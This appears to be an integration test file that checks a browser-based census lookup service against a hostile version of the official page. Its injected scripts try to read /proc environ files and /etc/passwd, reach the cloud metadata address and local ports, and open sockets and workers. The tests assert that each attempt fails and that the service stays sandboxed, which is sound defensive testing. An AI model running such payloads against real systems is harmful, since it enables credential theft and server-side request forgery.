import { readdirSync, readFileSync } from 'node:fs';
import { expect } from 'chai';
import { eventually } from '../support/eventually.ts';
import { createClient, newCedula } from '../support/people/client.ts';
import { browsersWith, commandOf, groupOf } from '../support/processes/processes.ts';
import { skipBecause } from '../support/skip.ts';
import { inMode } from '../support/system/modes.ts';
import { inDatabase } from '../support/system/portal-database.ts';
import { admin, type System, startSystem } from '../support/system/system.ts';
import { type HostileSite, startHostileSite, startTrap } from './support/hostile-page.ts';

const SECRETS = { TWOCAPTCHA_API_KEY: 'clave-del-captcha', ADMIN_PASSWORD: admin.password };

/** Tells its own server what came of each try, by name. */
const TELL = `const tell = (name, what) => navigator.sendBeacon('/told', name + ': ' + what);
  const attempt = (name, work) => Promise.resolve().then(work).then((got) => tell(name, 'GOT ' + got), (e) => tell(name, 'no ' + e));`;

inMode('embedded', 'The official page in the hands of an attacker', () => {
  let trap: Awaited<ReturnType<typeof startTrap>>;
  let site: HostileSite;
  let system: System;

  before(async () => {
    [trap, site] = await Promise.all([startTrap(), startHostileSite()]);
    system = await startSystem({
      mode: 'embedded',
      env: {
        SOURCE: 'consultacenso',
        REGISTRADURIA_URL: site.url,
        MAX_ATTEMPTS: '1',
        LOOKUP_TIMEOUT_S: '60',
        LEASE_S: '64',
        ...SECRETS,
      },
    });
  });
  afterEach(function () {
    trap.caught.length = 0;
    site.told.length = 0;
    if (this.currentTest?.state === 'failed')
      console.error(system.processes.get('censo')?.output().slice(-4_000));
  });
  after(async () => {
    await system?.stop();
    site?.close();
    trap?.close();
  });

  /** A person registers, and their lookup ends. @returns how, and what the history says of it */
  const lookUp = async (): Promise<{
    status: string;
    attempts: { outcome: string; detail: string | null }[];
  }> => {
    const client = createClient(system.origin);
    await client.register({ cedula: newCedula() });
    const { status } = await client.censusIn(['ACTIVE', 'ERROR', 'TIMEOUT', 'BLOCKED']);
    const attempts = await inDatabase<{ outcome: string; detail: string | null }>(
      system,
      'select outcome, detail from census.attempts order by started_at desc limit 1',
    );
    return { status, attempts };
  };

  it('reads no file and no environment of a process', async () => {
    site.behave({
      script: `${TELL}
        for (const path of ['/proc/self/environ', '/proc/1/environ', '/etc/passwd']) {
          attempt('fetch ' + path, async () => (await fetch('file://' + path)).text());
          attempt('frame ' + path, () => new Promise((resolve, reject) => {
            const frame = document.createElement('iframe');
            frame.onload = () => { try { resolve(frame.contentDocument.body.innerText); } catch (e) { reject(e); } };
            frame.onerror = reject;
            frame.src = 'file://' + path;
            document.documentElement.append(frame);
          }));
        }`,
    });
    const { status, attempts } = await lookUp();
    expect(status, attempts[0]?.detail ?? '').to.equal('ACTIVE');
    expect(site.told.filter((line) => /GOT .*\S/.test(line.replace(/GOT \s*$/, '')))).to.deep.equal([]);
  });

  it("reaches neither another host, nor the cloud's metadata, nor another port of its own machine", async () => {
    const operations = new URL(system.operations('censo')).port;
    site.behave({
      script: `${TELL}
        const places = ['http://127.0.0.1:${trap.port}/', 'http://localhost:${trap.port}/', 'http://[::ffff:7f00:1]:${trap.port}/',
          'http://127.0.0.1:${operations}/metrics', 'http://169.254.169.254/latest/meta-data/', 'http://10.0.0.1/'];
        for (const place of places) {
          attempt('fetch ' + place, async () => (await fetch(place, { mode: 'no-cors' })).type);
          attempt('led ' + place, async () => (await fetch('/lead-away?to=' + encodeURIComponent(place), { mode: 'no-cors' })).type);
          const script = document.createElement('script');
          script.src = '/lead-away?to=' + encodeURIComponent(place + 'script');
          script.onload = () => tell('script ' + place, 'GOT it');
          document.documentElement.append(script);
          const frame = document.createElement('iframe');
          frame.src = place + 'frame';
          document.documentElement.append(frame);
          new Image().src = place + 'image';
          navigator.sendBeacon(place + 'beacon', 'cédula');
          for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload']) {
            const link = document.createElement('link');
            link.rel = rel; link.href = place + rel; link.as = 'script';
            document.head.append(link);
          }
        }`,
    });
    const { status, attempts } = await lookUp();
    expect(status, attempts[0]?.detail ?? '').to.equal('ACTIVE');
    expect(trap.caught).to.deep.equal([]);
    expect(site.told.filter((line) => line.includes('GOT'))).to.deep.equal([]);
  });

  it('opens no socket, no call and no worker that goes elsewhere', async () => {
    site.behave({
      script: `${TELL}
        const socket = new WebSocket('ws://127.0.0.1:${trap.port}/socket');
        socket.onopen = () => tell('socket', 'GOT it');
        new EventSource('http://127.0.0.1:${trap.port}/events');
        attempt('worker', () => new Promise((resolve, reject) => {
          const code = "fetch('http://127.0.0.1:${trap.port}/worker', { mode: 'no-cors' }).then(() => postMessage('it'), () => postMessage(''));" +
            "new WebSocket('ws://127.0.0.1:${trap.port}/worker-socket');";
          const worker = new Worker(URL.createObjectURL(new Blob([code])));
          worker.onmessage = ({ data }) => (data === '' ? reject('refused') : resolve(data));
        }));
        attempt('service worker', () => navigator.serviceWorker.register('/sw.js').then((made) => made.scope));
        const call = new RTCPeerConnection({ iceServers: [{ urls: ['stun:127.0.0.1:${trap.port}',
          'turn:127.0.0.1:${trap.port}?transport=tcp'], username: 'a', credential: 'b' }] });
        call.createDataChannel('x');
        call.createOffer().then((offer) => call.setLocalDescription(offer));`,
    });
    const { status, attempts } = await lookUp();
    expect(status, attempts[0]?.detail ?? '').to.equal('ACTIVE');
    expect(trap.caught).to.deep.equal([]);
    expect(site.told.filter((line) => line.includes('GOT'))).to.deep.equal([]);
  });

  it('opens no window and leaves no file', async () => {
    site.behave({
      script: `${TELL}
        window.open('http://127.0.0.1:${trap.port}/window');
        const link = document.createElement('a');
        link.href = '/a-file'; link.download = 'a.sh';
        document.documentElement.append(link);
        link.click();`,
    });
    const { status } = await lookUp();
    expect(status).to.be.oneOf(['ACTIVE', 'ERROR']);
    expect(trap.caught).to.deep.equal([]);
    const files = readdirSync(`${system.folder}/tmp`, { recursive: true }).map(String);
    expect(files.filter((file) => file.endsWith('.sh') || file.includes('.crdownload'))).to.deep.equal([]);
  });

  for (const [how, behaviour] of [
    ['redirects its visitor', () => ({ redirect: `http://127.0.0.1:${trap.port}/away` })],
    ['redirects its visitor to the metadata', () => ({ redirect: 'http://169.254.169.254/latest/' })],
    ['goes elsewhere by script', () => ({ script: `location.href = 'http://127.0.0.1:${trap.port}/away'` })],
  ] as const) {
    it(`ends the lookup as a changed page when it ${how}`, async () => {
      site.behave(behaviour());
      const { status, attempts } = await lookUp();
      expect(status).to.equal('ERROR');
      expect(attempts).to.have.lengthOf(1);
      expect(attempts[0]?.detail).to.match(/^the page leads to (127\.0\.0\.1:\d+|169\.254\.169\.254)/);
      expect(trap.caught).to.deep.equal([]);
    });
  }

  it('runs in processes that know no secret, belong to nobody and, where pages run, are shut in by Chromium', async function () {
    const [warning] = /NO ESTÁ AISLADO DEL TODO.*/.exec(system.processes.get('censo')?.output() ?? '') ?? [];
    if (warning !== undefined) skipBecause(this, warning);
    const looked = Promise.withResolvers<void>();
    site.behave({ script: '' }, looked.promise);
    const ended = lookUp();
    const isTab = (pid: number): boolean => commandOf(pid).includes('--type=renderer');
    const tree = (): number[] => browsersWith(system.folder).flatMap(groupOf);
    await eventually('the page is open in a tab', () => tree().some(isTab));
    const seen = tree();
    const [browser = 0] = browsersWith(system.folder);
    const status = (pid: number) => readFileSync(`/proc/${pid}/status`, 'utf8');
    const field = (pid: number, name: string) =>
      new RegExp(`^${name}:\\s+(.*)$`, 'm').exec(status(pid))?.[1] ?? '';
    expect(seen.length).to.be.above(1);
    for (const pid of seen) {
      const environment = readFileSync(`/proc/${pid}/environ`, 'utf8');
      for (const [name, value] of Object.entries(SECRETS))
        expect(environment, `${pid}`).to.not.include(value).and.not.include(name);
      expect(environment).to.not.match(/DATABASE_URL|REDIS_URL|NATS_URL|LANES|ADMIN_/);
      expect(field(pid, 'Uid'), 'another user').to.not.match(/^0\s/);
      expect(field(pid, 'NoNewPrivs')).to.equal('1');
    }
    expect(field(browser, 'CapEff')).to.match(/^0+$/);
    const tabs = seen.filter(isTab);
    expect(tabs.length, 'a tab is there').to.be.above(0);
    for (const pid of tabs) {
      expect(field(pid, 'Seccomp'), 'a filter of system calls').to.equal('2');
      expect(field(pid, 'NSpid').split('\t').length, 'a namespace of its own').to.be.above(1);
    }
    expect(system.processes.get('censo')?.output()).to.include('browser confined');
    looked.resolve();
    expect((await ended).status).to.equal('ACTIVE');
  });
});
